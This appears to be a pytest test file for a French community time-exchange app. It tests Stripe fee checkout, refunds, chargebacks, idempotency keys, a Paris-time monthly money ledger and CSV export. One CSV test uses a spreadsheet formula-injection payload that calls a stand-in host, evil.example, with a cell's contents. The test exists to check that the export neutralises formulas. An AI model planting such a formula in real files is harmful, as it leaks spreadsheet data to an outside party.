@pytest.mark.parametrize("fee_state", [None, "due", "paid", "settled", "refunded"])
def test_confirmation_moves_the_same_credits_whatever_the_fee(w, fake_stripe, fee_state):
    ready(fake_stripe, w.provider)
    cents, covers = (None, "") if fee_state is None else (1250, "Chambre à air")
    ex = accepted(w, cents, covers)
    if fee_state in ("paid", "refunded"):
        pay(fake_stripe, w, ex)
    lifecycle.log_time(w.provider.id, ex.id, minutes=75)
    if fee_state == "settled":
        fees.settle_outside(w.provider.id, ex.id)
    if fee_state == "refunded":  # refunded from Stripe's dashboard, read back from Stripe
        fake_stripe.refund_outside(fee_of(ex).charge_id)
        checkout.sync_charge(fee_of(ex).charge_id)
    assert (fee_of(ex).state if fee_state else None) == fee_state

    lifecycle.confirm(w.receiver.id, ex.id)
    db.session.expire_all()
    assert transfers.account_of(w.provider.id).balance == 75
    assert transfers.account_of(w.receiver.id).balance == -75
    (transfer,) = db.session.scalars(select(Transfer))
    assert (transfer.kind, transfer.exchange_id) == ("settlement", ex.id)
    assert sorted(e.amount for e in db.session.scalars(select(Entry))) == [-75, 75]
    assert (fee_of(ex).state if fee_state else None) == fee_state  # money untouched too


def test_no_fee_operation_touches_the_time_ledger(w, fake_stripe):
    ready(fake_stripe, w.provider)
    # Credits already moved once, so the ledger has rows to keep.
    confirmed = logged(w, 900, "Salle")
    lifecycle.confirm(w.receiver.id, confirmed.id)
    ex = accepted(w, title="Second")
    rows = time_ledger()
    assert rows[0] and rows[1]

    checkout.start_checkout(w.receiver.id, ex.id)
    assert time_ledger() == rows
    session_id = fee_of(ex).checkout_session_id
    fake_stripe.complete_checkout(session_id)
    checkout.sync_checkout(session_id)
    assert fee_of(ex).state == "paid"
    assert time_ledger() == rows
    fees.settle_outside(w.provider.id, confirmed.id)
    assert fee_of(confirmed).state == "settled"
    assert time_ledger() == rows
    lifecycle.log_time(w.provider.id, ex.id, minutes=60)
    disputes.dispute(w.receiver.id, ex.id, "Le vélo grince encore.")
    rows = time_ledger()
    fees.refund(w.coord_p.id, ex.id, "Le vélo n'a pas été réparé.")
    assert fee_of(ex).state == "refunded"
    assert time_ledger() == rows


# ---------------------------------------------------------------------------- money ledger


def _fee_row(w, title, cents, state, *, created, paid=None, refunded=None, settled=None):
    """A fee attached for real, then moved on its row (the ledger reads only the rows)."""
    ex = accepted(w, cents, f"Frais de {title}", title=title)
    fee = fee_of(ex)
    fee.state = state
    fee.created_at, fee.paid_at, fee.refunded_at, fee.settled_at = (
        created,
        paid,
        refunded,
        settled,
    )
    db.session.commit()
    return fee


def utc(*args) -> datetime:
    return datetime(*args, tzinfo=UTC)


@pytest.fixture
def money(w, fake_stripe):
    set_rules(w.admin, commons_bp=1000)  # 10 %
    made = {
        # 23:30 UTC on 31 January is 00:30 on 1 February in Paris.
        "late": _fee_row(
            w, "Minuit", 1000, "paid", created=utc(2025, 1, 31, 20), paid=utc(2025, 1, 31, 23, 30)
        ),
        "january": _fee_row(
            w, "Janvier", 2000, "paid", created=utc(2025, 1, 10), paid=utc(2025, 1, 15, 12)
        ),
        # Paid in January, refunded in February: the commons give their share back.
        "refunded": _fee_row(
            w,
            "Remboursé",
            1500,
            "refunded",
            created=utc(2025, 1, 5),
            paid=utc(2025, 1, 6),
            refunded=utc(2025, 2, 3),
        ),
        "settled": _fee_row(
            w, "Liquide", 700, "settled", created=utc(2025, 2, 18), settled=utc(2025, 2, 20)
        ),
        # 22:30 UTC on 31 July is 00:30 on 1 August in Paris (summer time).
        "summer": _fee_row(
            w, "Été", 500, "paid", created=utc(2025, 7, 31, 20), paid=utc(2025, 7, 31, 22, 30)
        ),
        "due": _fee_row(w, "Attendu", 900, "due", created=utc(2025, 8, 2)),
        "withdrawn": _fee_row(w, "Retiré", 800, "withdrawn", created=utc(2025, 8, 3)),
    }
    return made


def test_the_money_ledger_counts_each_month_in_the_networks_time_zone(money):
    totals = records.totals()
    months = {
        m.first_day.isoformat(): (
            m.paid_count,
            m.paid_cents,
            m.refunded_cents,
            m.settled_cents,
            m.commons_cents,
        )
        for m in totals.months
    }
    assert months == {
        "2025-08-01": (1, 500, 0, 0, 50),
        "2025-02-01": (1, 1000, 1500, 700, 100 - 150),
        "2025-01-01": (2, 2000 + 1500, 0, 0, 200 + 150),
    }
    assert [m.first_day.isoformat() for m in totals.months] == [
        "2025-08-01",
        "2025-02-01",
        "2025-01-01",
    ]
    february = totals.months[1]
    assert february.net_cents == 1000 - 1500


def test_the_money_ledger_totals_and_the_commons_keep_only_paid_fees_shares(money):
    totals = records.totals()
    assert totals.paid_cents == 1000 + 2000 + 1500 + 500
    assert totals.refunded_cents == 1500
    assert totals.settled_cents == 700
    # 10 % of the fees paid online and kept: not the refunded one, not the settled one.
    assert totals.commons_cents == 100 + 200 + 50
    assert totals.due_count == 1
    for value in (totals.paid_cents, totals.commons_cents):
        assert type(value) is int


def test_the_money_ledger_lists_the_newest_first(money):
    page = records.page()
    assert [f.covers for f in page.items] == [
        "Frais de Retiré",
        "Frais de Attendu",
        "Frais de Été",
        "Frais de Liquide",
        "Frais de Minuit",
        "Frais de Janvier",
        "Frais de Remboursé",
    ]
    assert page.total == 7
    assert [f.id for f in records.page(99).items] == [f.id for f in page.items]


def test_the_money_csv_is_for_spreadsheets_and_names_no_exchange_title(w, fake_stripe):
    set_rules(w.admin, commons_bp=1000)
    ex = accepted(w, 1250, '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")', title="Secret")
    fee = fee_of(ex)
    fee.state, fee.paid_at = "paid", utc(2025, 3, 4, 9, 5)
    db.session.commit()
    headers = ["Date", "Échange", "Couvre", "€", "c", "Communs €", "État", "Donne", "Reçoit"]
    headers += ["Payé", "Remboursé", "Réglé", "Contestation", "Repris", "Réf"]
    text = records.to_csv(headers, lambda state: {"paid": "payés"}[state], str)
    assert text.startswith("\ufeff")
    assert "Secret" not in text  # the exchange is named by its number only
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))
    assert rows[0] == headers
    (row,) = rows[1:]
    assert row[1] == str(ex.id)
    assert row[2] == "'" + fee.covers  # a spreadsheet shows it, never runs it
    assert (row[3], row[4], row[5]) == ("12.50", "1250", "1.25")
    assert (row[6], row[7], row[8]) == ("payés", "Paule Prête", "Rémi Reçoit")
    assert row[9] == "04/03/2025 10:05"  # Paris time
    assert (row[12], row[13]) == ("", "")  # no bank dispute
    assert row[14] == str(fee.id)
    assert ";" in text.splitlines()[0]


# ---------------------------------------------------------------------------- after the review


def test_a_paid_fee_on_a_cancelled_exchange_goes_to_the_coordinators(w, fake_stripe, client, auth):
    """Cancelling does not give money back by itself: the coordinators who could resolve the
    exchange are told, may open it, and refund it."""
    ready(fake_stripe, w.provider)
    ex = accepted(w)
    pay(fake_stripe, w, ex)
    lifecycle.cancel(w.receiver.id, ex.id, "Finalement non")
    assert fee_of(ex).state == "paid"
    assert told(w.coord_p, "fee_to_refund") == 1 and told(w.coord_r, "fee_to_refund") == 1
    assert told(w.coord_q, "fee_to_refund") == 0
    auth.login(w.coord_p)
    page = client.get(f"/echanges/{ex.id}")
    assert page.status_code == 200 and "Rembourser la participation aux frais" in page.text
    fees.refund(w.coord_p.id, ex.id, "Échange annulé avant d'avoir lieu")
    assert fee_of(ex).state == "refunded"


def test_a_payment_landing_after_the_fee_was_withdrawn_goes_to_the_coordinators(w, fake_stripe):
    ready(fake_stripe, w.provider)
    ex = accepted(w)
    checkout.start_checkout(w.receiver.id, ex.id)
    session_id = fee_of(ex).checkout_session_id
    lifecycle.cancel(w.provider.id, ex.id, "Empêchée")
    assert fee_of(ex).state == "withdrawn"
    fake_stripe.complete_checkout(session_id)  # the receiver had the page open
    checkout.sync_checkout(session_id)
    assert fee_of(ex).state == "paid"  # Stripe's word on money wins
    assert told(w.coord_p, "fee_to_refund") == 1


def test_a_refund_stripe_refuses_is_asked_again_under_the_next_key(w, fake_stripe):
    from exchange.services.errors import PaymentRefused

    ex = disputed_and_paid(fake_stripe, w)
    fee = fee_of(ex)
    fake_stripe.refund_outside(fee.charge_id)  # refunded from the dashboard meanwhile
    refuses(PaymentRefused, lambda: fees.refund(w.coord_p.id, ex.id, "Rien n'a été fait"))
    fee = fee_of(ex)
    assert (fee.state, fee.refund_id, fee.refund_attempt) == ("paid", None, 1)
    assert count(ModerationAction, ModerationAction.action == "fee_refunded") == 0
    checkout.sync_charge(fee.charge_id)  # what charge.refunded brings
    assert fee_of(ex).state == "refunded"
    assert [r.idempotency_key for r in posts(fake_stripe, "/v1/refunds")] == [
        f"fee-{fee.id}-refund"
    ]


def test_a_checkout_stripe_refuses_makes_the_next_try_a_new_attempt(w, fake_stripe):
    from exchange.services.errors import PaymentRefused

    account = ready(fake_stripe, w.provider)
    ex = accepted(w)
    # Stripe no longer lets the account take transfers; we have not heard yet.
    fake_stripe.update_account(account.stripe_id, capabilities={"transfers": "inactive"})
    refuses(PaymentRefused, lambda: checkout.start_checkout(w.receiver.id, ex.id))
    fake_stripe.make_account_ready(account.stripe_id)
    checkout.start_checkout(w.receiver.id, ex.id)
    fee_id = fee_of(ex).id
    assert [r.idempotency_key for r in posts(fake_stripe, "/v1/checkout/sessions")] == [
        f"fee-{fee_id}-checkout-1",
        f"fee-{fee_id}-checkout-2",
    ]


def test_a_try_long_after_a_lost_answer_is_a_new_attempt(w, fake_stripe):
    """Stripe wants a session to live 30 minutes from its making: an attempt begun 35 minutes
    ago cannot be asked for again with its expiry; the next one is."""
    ready(fake_stripe, w.provider)
    ex = accepted(w)
    now = utcnow()
    fake_stripe.fail_next(3)
    refuses(PaymentUnavailable, lambda: checkout.start_checkout(w.receiver.id, ex.id, now=now))
    url = checkout.start_checkout(w.receiver.id, ex.id, now=now + timedelta(minutes=35))
    fee = fee_of(ex)
    assert fee.checkout_attempt == 2 and fee.checkout_url == url


def test_a_paid_fee_counts_when_the_card_was_charged(w, fake_stripe):
    ready(fake_stripe, w.provider)
    ex = accepted(w)
    fee = pay(fake_stripe, w, ex)
    charge = fake_stripe.get("charge", fee.charge_id)
    assert fee.paid_at == datetime.fromtimestamp(charge["created"], UTC)


def test_an_account_without_the_transfers_capability_is_not_ready(w, fake_stripe):
    connect.onboarding_url(w.provider.id)
    account = connect.account_of(w.provider.id)
    fake_stripe.make_account_ready(account.stripe_id)
    fake_stripe.update_account(account.stripe_id, capabilities={"transfers": "pending"})
    connect.sync(account.stripe_id)
    assert connect.state_of(w.provider.id) == "pending"


def test_accounts_of_test_mode_are_unknown_in_live_mode(app, w, fake_stripe):
    ready(fake_stripe, w.provider)
    app.config.update(STRIPE_SECRET_KEY="sk_live_network")
    assert connect.state_of(w.provider.id) == "none"
    assert connect.states_of([w.provider.id]) == {w.provider.id: "none"}


def test_installations_sharing_a_stripe_account_prefix_their_keys(app, w, fake_stripe):
    app.config.update(STRIPE_KEY_PREFIX="staging-")
    ready(fake_stripe, w.provider)
    assert {r.idempotency_key for r in posts(fake_stripe)} == {
        f"staging-user-{w.provider.id}-account",
        f"staging-user-{w.provider.id}-link-1",
    }


def test_the_onboarding_link_refresh_never_opens_an_account(w, fake_stripe, client, auth):
    """Stripe sends members back to it by a GET; a GET from anywhere must not open an account
    in their name."""
    auth.login(w.provider)
    response = client.get("/compte/paiements/relancer")
    assert response.status_code == 302 and f"/membres/{w.provider.id}" in response.location
    assert fake_stripe.requests == [] and connect.account_of(w.provider.id) is None
    connect.onboarding_url(w.provider.id)
    response = client.get("/compte/paiements/relancer")
    assert response.status_code == 303 and response.location.startswith(fake_stripe.url)


def test_stripe_lost_while_opening_an_account_keeps_nothing_and_the_retry_finds_it(w, fake_stripe):
    """No answer from Stripe when the account is made: the member is told to try again and
    nothing is kept; the next try sends the same key and keeps the one account Stripe made."""
    fake_stripe.fail_next(3)  # the first try and both of the library's retries
    refuses(PaymentUnavailable, lambda: connect.onboarding_url(w.provider.id))
    assert connect.account_of(w.provider.id) is None
    (made,) = fake_stripe.objects("account")

    url = connect.onboarding_url(w.provider.id)
    assert url.startswith(fake_stripe.url)
    assert connect.account_of(w.provider.id).stripe_id == made["id"]
    assert len(fake_stripe.objects("account")) == 1


def test_stripe_lost_on_the_onboarding_link_counts_no_link(w, fake_stripe):
    connect.onboarding_url(w.provider.id)
    fake_stripe.fail_next(3)
    refuses(PaymentUnavailable, lambda: connect.onboarding_url(w.provider.id))
    assert connect.account_of(w.provider.id).links_made == 1
    connect.onboarding_url(w.provider.id)
    keys = [r.idempotency_key for r in posts(fake_stripe, "/v1/account_links")]
    assert keys == [f"user-{w.provider.id}-link-1"] + [f"user-{w.provider.id}-link-2"] * 4


# ---------------------------------------------------------------------------- bank disputes


def bank_disputes(fake, ex, **kw) -> str:
    """The payer's bank disputes (or questions) the fee's charge; Stripe's event is handled."""
    dispute = fake.open_dispute(fee_of(ex).charge_id, **kw)
    money_bank_disputes.sync_dispute(dispute["id"])
    return dispute["id"]


def test_no_refund_while_a_chargeback_is_open_then_one_once_the_bank_decided_for_the_payment(
    w, fake_stripe
):
    ex = disputed_and_paid(fake_stripe, w)
    dispute_id = bank_disputes(fake_stripe, ex)
    fee = fee_of(ex)
    assert fee.dispute_status == "open" and not fees.can_refund(w.coord_p, fee)

    error = refuses(Conflict, lambda: fees.refund(w.coord_p.id, ex.id, "Pas fait"))
    assert "La banque du payeur conteste ce paiement" in str(error)
    assert posts(fake_stripe, "/v1/refunds") == []
    assert count(ModerationAction, ModerationAction.action == "fee_refunded") == 0
    # Someone who may not refund is told that, not about the bank.
    refuses(Forbidden, lambda: fees.refund(w.coord_q.id, ex.id, "Pas fait"))

    fake_stripe.update_dispute(dispute_id, "won")
    money_bank_disputes.sync_dispute(dispute_id)
    assert fees.can_refund(w.coord_p, fee_of(ex))
    fees.refund(w.coord_p.id, ex.id, "Le travail n'a pas été fait")
    assert fee_of(ex).state == "refunded"


def test_a_lost_chargeback_closes_the_refund_for_good(w, fake_stripe):
    ex = disputed_and_paid(fake_stripe, w)
    dispute_id = bank_disputes(fake_stripe, ex)
    fake_stripe.update_dispute(dispute_id, "lost")
    money_bank_disputes.sync_dispute(dispute_id)
    fee = fee_of(ex)
    assert fee.charged_back and not fees.can_refund(w.coord_p, fee)
    refuses(Conflict, lambda: fees.refund(w.coord_p.id, ex.id, "Pas fait"))
    assert posts(fake_stripe, "/v1/refunds") == []


def test_a_bank_asking_questions_leaves_the_refund_open_and_a_refund_answers_it(w, fake_stripe):
    """An inquiry takes no money: refunding is one of the two ways to answer it."""
    ex = disputed_and_paid(fake_stripe, w)
    bank_disputes(fake_stripe, ex, status="warning_needs_response")
    assert fee_of(ex).dispute_status == "inquiry" and fees.can_refund(w.coord_p, fee_of(ex))
    fees.refund(w.coord_p.id, ex.id, "Le matériel n'a pas servi")
    assert fee_of(ex).state == "refunded"


def test_a_refund_meeting_a_chargeback_not_yet_heard_of_says_the_bank_holds_it(w, fake_stripe):
    ex = disputed_and_paid(fake_stripe, w)
    fake_stripe.open_dispute(fee_of(ex).charge_id)  # its webhook is still on its way

    error = refuses(Conflict, lambda: fees.refund(w.coord_p.id, ex.id, "Pas fait"))

    assert "La banque du payeur conteste ce paiement" in str(error)
    fee = fee_of(ex)
    # Stripe refused: the next try is a new request, under the next key.
    assert (fee.state, fee.refund_id, fee.refund_attempt) == ("paid", None, 1)
    assert count(ModerationAction, ModerationAction.action == "fee_refunded") == 0


def test_the_admins_notice_names_the_exchange_by_its_number_and_says_what_to_do(w, fake_stripe):
    ex = disputed_and_paid(fake_stripe, w)
    bank_disputes(fake_stripe, ex, amount=700)
    notice = db.session.scalar(
        select(Notification).where(
            Notification.user_id == w.admin.id, Notification.kind == "fee_dispute_admin"
        )
    )
    words = notifications.describe(notice).replace("\xa0", " ").replace("\u202f", " ")
    assert f"échange n° {ex.id}" in words and "7,00 €" in words
    assert "tableau de bord Stripe" in words and "Rémi Reçoit" in words
    assert ex.title not in words
    provider_notice = db.session.scalar(
        select(Notification).where(
            Notification.user_id == w.provider.id, Notification.kind == "fee_dispute_open"
        )
    )
    provider_words = notifications.describe(provider_notice).replace("\xa0", " ")
    provider_words = provider_words.replace("\u202f", " ")
    assert ex.title in provider_words and "7,00 €" in provider_words  # the amount in question


def test_money_the_bank_gave_back_counts_in_the_month_archipel_heard_of_it(w, fake_stripe):
    fee = _fee_row(w, "Contesté", 1200, "paid", created=utc(2025, 3, 1), paid=utc(2025, 3, 2))
    fee.dispute_id, fee.dispute_status, fee.dispute_cents = "dp_1Lost", "lost", 900
    fee.disputed_at, fee.dispute_closed_at = utc(2025, 3, 20), utc(2025, 4, 30, 22, 30)
    # Refunded, then charged back: the money went back once, as a refund.
    twice = _fee_row(
        w,
        "Deux fois",
        500,
        "refunded",
        created=utc(2025, 3, 1),
        paid=utc(2025, 3, 3),
        refunded=utc(2025, 3, 4),
    )
    twice.dispute_id, twice.dispute_status, twice.dispute_cents = "dp_1Twice", "lost", 500
    twice.disputed_at, twice.dispute_closed_at = utc(2025, 3, 20), utc(2025, 4, 2)
    won = _fee_row(w, "Gagné", 800, "paid", created=utc(2025, 3, 1), paid=utc(2025, 3, 3))
    won.dispute_id, won.dispute_status, won.dispute_cents = "dp_1Won", "won", 800
    won.disputed_at, won.dispute_closed_at = utc(2025, 3, 20), utc(2025, 4, 2)
    db.session.commit()

    totals = records.totals()
    assert (totals.paid_cents, totals.refunded_cents, totals.charged_back_cents) == (
        2500,
        500,
        900,
    )
    months = {m.first_day.isoformat(): m for m in totals.months}
    assert months["2025-03-01"].charged_back_cents == 0
    assert "2025-04-01" not in months  # the refunded one and the one won move nothing
    # 22:30 UTC on 30 April is 00:30 on 1 May in Paris.
    assert months["2025-05-01"].charged_back_cents == 900
    assert months["2025-05-01"].net_cents == -900

    headers = ["Date", "Échange", "Couvre", "€", "c", "Communs €", "État", "Donne", "Reçoit"]
    headers += ["Payé", "Remboursé", "Réglé", "Litige", "Rendu", "Réf"]
    text = records.to_csv(headers, lambda state: state, {"lost": "rendue"}.get)
    rows = {r[14]: r for r in csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";")}
    assert (rows[str(fee.id)][12], rows[str(fee.id)][13]) == ("rendue", "01/05/2025 00:30")
    # What the bank is doing is not everyone's business until money moved back.
    assert (rows[str(won.id)][12], rows[str(won.id)][13]) == ("", "")


def test_a_notice_leads_to_the_ledger_page_that_lists_the_fee(w, fake_stripe, monkeypatch):
    monkeypatch.setattr(records, "PER_PAGE", 2)
    made = [
        _fee_row(w, f"F{i}", 500, "paid", created=utc(2025, 3, 1 + i), paid=utc(2025, 3, 2 + i))
        for i in range(5)
    ]  # newest first: F4 F3 | F2 F1 | F0
    assert [records.page_of(f.id) for f in made] == [3, 2, 2, 1, 1]
    assert records.page_of(0) == 1
